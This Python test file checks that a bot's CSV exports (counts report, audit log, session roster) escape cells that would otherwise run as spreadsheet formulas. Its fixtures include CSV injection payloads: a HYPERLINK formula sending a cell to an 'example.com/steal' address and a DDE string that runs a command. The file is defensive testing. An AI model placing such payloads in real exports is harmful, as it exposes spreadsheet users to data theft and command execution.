"""Every CSV export (the counts report, the audit log, a session's roster) goes through one writer, and no cell of
any of them runs as a spreadsheet formula (issue 18: CSV injection)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from bot.clock import FixedClock
from bot.services.csv_export import safe_cell
from bot.services.roles import Audit
from bot.services.sessions.roster import roster_csv
from cards.sessions import RosterLine
from storage.db import Database
from tests.cli_helpers import ROOT, run_cli
from tests.test_counts import NOW, Seeder, many
from vocabulary.words import InvitationStatus

HYPERLINK = '=HYPERLINK("https://example.com/steal?d="&A1,"Click here")'
# One of each way a cell can start a formula, plus a tab and a carriage return hiding one.
RISKY = (HYPERLINK, "@SUM(A1:A9)", "+44 1482 000000", "-1+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def read_file(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return read(handle.read())


@pytest.mark.parametrize("risky", [*RISKY, "\n=1", "\uff1d1", "\uff20A1"])
def test_a_cell_that_would_run_as_a_formula_becomes_text(risky: str) -> None:
    assert safe_cell(risky) == "'" + risky


@pytest.mark.parametrize("safe", ["Ada Lovelace", "ada@nhs.net", "O'Brien", "", "fewer than 8", "2026-11-26"])
def test_ordinary_cells_are_unchanged(safe: str) -> None:
    assert safe_cell(safe) == safe


async def test_counts_csv_from_the_command_line_keeps_organisation_names_as_text(
        db: Database, db_url: str, tmp_path: Path) -> None:
    seeder = Seeder()
    async with db.transaction() as session:
        await seeder.notices(session)
        specs = []
        for position, name in enumerate(RISKY, start=1):
            organisation = await seeder.organisation(session, name, position)
            specs += many(10, ally=True, organisation=organisation, codesign=True)
        await seeder.volunteers(session, specs)
    target = tmp_path / "counts.csv"

    result = await run_cli(tmp_path, "report", "counts", "--csv", str(target), DATABASE_URL=db_url)

    assert result.code == 0, result.err
    rows = read_file(target)
    organisation_rows = {row[1]: row[2] for row in rows if row[0] == "By organisation"}
    for name in RISKY:
        assert organisation_rows["'" + name] == "10"
    assert formula_cells(rows) == []


async def test_audit_csv_keeps_every_cell_as_text(db: Database, db_url: str, tmp_path: Path) -> None:
    audit = Audit(FixedClock(NOW))
    async with db.transaction() as session:
        for risky in RISKY:
            await audit.record(session, risky, "role.grant.admin", risky, outcome="done")
    target = tmp_path / "audit.csv"

    result = await run_cli(tmp_path, "audit", "export", "--csv", str(target), DATABASE_URL=db_url)

    assert result.code == 0, result.err
    rows = read_file(target)
    assert [(row[2], row[4]) for row in rows[1:]] == [("'" + risky, "'" + risky) for risky in RISKY]
    assert formula_cells(rows) == []


def test_roster_csv_keeps_names_and_e_mails_as_text() -> None:
    entries = [RosterLine(InvitationStatus.ACCEPTED, None, risky, risky + "@nhs.net") for risky in RISKY]
    entries.append(RosterLine(InvitationStatus.WAITING, 1, "Ada Lovelace", "ada@nhs.net"))

    rows = read(roster_csv(entries).decode("utf-8"))

    assert rows[0] == ["Status", "Waiting list position", "Name", "E-mail"]
    assert [row[2] for row in rows[1:]] == ["'" + risky for risky in RISKY] + ["Ada Lovelace"]
    assert formula_cells(rows) == []


def test_every_csv_the_bot_writes_goes_through_the_one_writer() -> None:
    """A new export that imported csv itself could forget the escaping."""
    writers = []
    for folder in ("bot", "cards", "dialogs", "storage"):
        for path in (ROOT / folder).rglob("*.py"):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            imported = {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
            imported |= {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
            if "csv" in imported:
                writers.append(path.relative_to(ROOT).as_posix())
    assert writers == ["bot/services/csv_export.py"]
